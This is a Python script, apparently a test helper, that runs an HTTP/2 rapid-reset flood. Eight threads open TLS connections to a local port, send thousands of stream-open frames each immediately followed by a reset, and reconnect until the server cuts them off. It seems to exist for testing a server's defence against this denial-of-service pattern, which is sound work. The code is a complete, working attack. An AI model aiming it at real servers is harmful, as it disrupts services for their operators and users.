"""Connections of HTTP/2, one after the other, each of which begins streams and resets them at once until it is cut off.

reset_flood.py PORT: prints READY when the first are cut off, and how many there were when it is told to end (SIGTERM).
"""

import os
import signal
import socket
import ssl
import struct
import sys
import threading

port = int(sys.argv[1])
context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"])
end = threading.Event()
parent = os.getppid()
signal.signal(signal.SIGTERM, lambda *_: end.set())
cut = 0
lock = threading.Lock()


def frame(kind, flags, stream, data):
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


get = b"\x82\x84\x87\x41\x09localhost"
streams = b"".join(
    frame(1, 5, stream, get) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 4001, 2))


def attack():
    global cut
    while not end.is_set() and os.getppid() == parent:
        try:
            plain = socket.create_connection(("127.0.0.1", port), timeout=60)
            link = context.wrap_socket(plain)
            link.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + streams)
            while link.recv(65536):
                pass
        except (OSError, ssl.SSLError):
            pass
        with lock:
            cut += 1
            if cut == 8:
                print("READY", flush=True)


threads = [threading.Thread(target=attack) for _ in range(8)]
for thread in threads:
    thread.start()
# A test that crashed tells nothing.
while not end.wait(1) and os.getppid() == parent:
    pass
for thread in threads:
    thread.join()
print("CUT", cut)
